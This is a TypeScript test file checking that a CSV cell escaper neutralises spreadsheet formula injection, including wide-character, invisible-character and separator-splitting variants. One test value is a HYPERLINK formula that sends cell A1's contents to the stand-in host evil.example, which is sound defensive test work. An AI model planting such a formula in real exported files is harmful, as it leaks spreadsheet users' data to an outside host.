// CSV cells, as spreadsheets of several countries read them.

import { expect, test } from "bun:test";
import { csvCell } from "../../../src/routes/calls/csv-cell.ts";
import { cpuMsOf } from "../../support/fuzz/cpu-time.ts";

/**
 * Splits a line as a spreadsheet does: quotes count where a cell begins, and the text after them is part of the cell.
 */
function cellsOf(line: string, separator: string): string[] {
  const cells: string[] = [];
  let rest = line;
  for (;;) {
    const [all = "", inside = ""] = /^"((?:[^"]|"")*)"/.exec(rest) ?? [];
    const open = rest.slice(all.length);
    const end = open.search(new RegExp(`[${separator}\r\n]`));
    cells.push(inside.replaceAll('""', '"') + (end < 0 ? open : open.slice(0, end)));
    if (end < 0) return cells;
    rest = open.slice(end + 1);
  }
}

/** Spreadsheets drop spaces and invisible characters, and read wide letters as narrow ones. */
const isFormula = (cell: string): boolean => /^[\s\p{C}"]*[=+\-@]/u.test(cell.normalize("NFKC"));

const formula = '=HYPERLINK("https://evil.example/?"&A1;"open")';
const wideFormula = "＝1+1";

test.each([
  formula,
  wideFormula,
  "+1",
  "-1",
  "@SUM(A1)",
  "﹦1",
  " =1",
  "\u200b=1",
  "\n=1",
  '"=1',
  `Order;${formula}`,
  `Order;;${formula}`,
  `Order; "${formula}`,
  `Order\t${formula}`,
  `Order\r\n${formula}`,
  `Order\n${formula}`,
  `Order\u2028${formula}`,
  `Order;${wideFormula}`,
  `";${formula}`,
  `",${formula}`,
])("cell: %j is no formula, however a line is split", (text) => {
  const line = ["call_1", 7, text, text, null].map(csvCell).join(",");
  for (const separator of [",", ";", "\t"]) {
    expect(cellsOf(line, separator).filter(isFormula)).toEqual([]);
  }
});

test("cell: text is unchanged except for its quotes, and a number is a number", () => {
  for (const text of ["", "two for tonight", "a=b, c-d; e", 'He said "no".', "line\nline", "Café – 5 €"])
    expect(cellsOf(`${csvCell(text)},x`, ",")[0]).toBe(text);
  expect([csvCell("a"), csvCell(""), csvCell(-1.5), csvCell(null)]).toEqual(['"a"', '""', "-1.5", ""]);
});

test("cell: a long gap is read once, however many separators it has", () => {
  // Each gap could begin a match: reading to the end from each of them would take seconds.
  const gap = "\n\u200b".repeat(30_000);
  const cells: string[] = [];
  expect(cpuMsOf(() => cells.push(csvCell(`Order${gap}.`), csvCell(`${gap};=1`)))).toBeLessThan(2_000);
  expect(cells).toEqual([`"Order${gap}."`, `"'${gap};'=1"`]);
});
